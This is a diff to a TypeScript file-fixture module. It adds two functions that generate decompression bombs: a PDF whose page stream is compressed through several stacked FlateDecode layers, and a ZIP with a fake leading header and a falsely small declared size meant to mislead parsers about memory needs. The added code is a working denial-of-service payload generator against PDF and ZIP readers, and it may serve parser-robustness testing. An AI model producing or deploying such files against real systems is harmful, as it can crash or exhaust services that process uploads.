@@ -1,4 +1,5 @@
 /** Makes the smallest Word and PDF files that hold a text, as their formats ask for them. */
+import { deflateSync } from 'node:zlib';
 import { strToU8, zipSync } from 'fflate';
 
 const escapeXml = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
@@ -48,4 +49,42 @@ export const pdf = (lines: readonly string[], title: string): Uint8Array => {
   for (const at of offsets) file += `${String(at).padStart(10, '0')} 00000 n \n`;
   file += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R /Info 6 0 R >>\nstartxref\n${start}\n%%EOF\n`;
   return strToU8(file, true);
+};
+
+/** Of `megabytes` of spaces, packed once for each of the filters: a page's content, or with three of them 900 bytes. */
+export const pdfBomb = (megabytes: number, layers: number): Uint8Array => {
+  let content: Uint8Array = new Uint8Array(megabytes * 1024 * 1024).fill(0x20);
+  for (let layer = 0; layer < layers; layer++) content = deflateSync(content);
+  const filters = Array.from({ length: layers }, () => '/FlateDecode').join(' ');
+  const plain = Buffer.from(pdf(['x'], 'Bomb')).toString('latin1');
+  const packed = Buffer.from(content).toString('latin1');
+  const stream = `<< /Length ${packed.length} /Filter [${filters}] >>\nstream\n${packed}\nendstream`;
+  // The offsets of the table no longer fit: pdf.js then looks for the objects themselves, as with any mended file.
+  return Buffer.from(
+    plain.replace(/<< \/Length \d+ >>\nstream\n[\s\S]*?\nendstream/, () => stream),
+    'latin1',
+  );
+};
+
+/**
+ * A ZIP that is small for who reads it from its beginning, and a bomb for who reads its directory at the end: its first entry
+ * claims all of the bytes as its own, unpacked, and the directory names the packed one inside of it.
+ */
+export const disguisedBomb = (path: string, megabytes: number): Uint8Array => {
+  const bomb = zipSync({ [path]: new Uint8Array(megabytes * 1024 * 1024) });
+  const cover = Buffer.alloc(31);
+  cover.writeUInt32LE(0x04034b50, 0);
+  cover.writeUInt16LE(20, 4);
+  cover.writeUInt32LE(bomb.length, 18);
+  cover.writeUInt32LE(bomb.length, 22);
+  cover.writeUInt16LE(1, 26);
+  cover.write('a', 30);
+  const whole = Buffer.concat([cover, bomb]);
+  const directory = whole.indexOf(Buffer.from([0x50, 0x4b, 1, 2]));
+  const end = whole.indexOf(Buffer.from([0x50, 0x4b, 5, 6]));
+  whole.writeUInt32LE(whole.readUInt32LE(directory + 42) + cover.length, directory + 42);
+  whole.writeUInt32LE(directory, end + 16);
+  // A lie about its size, which a reader that believes it would make room for.
+  whole.writeUInt32LE(100, directory + 24);
+  return whole;
 };
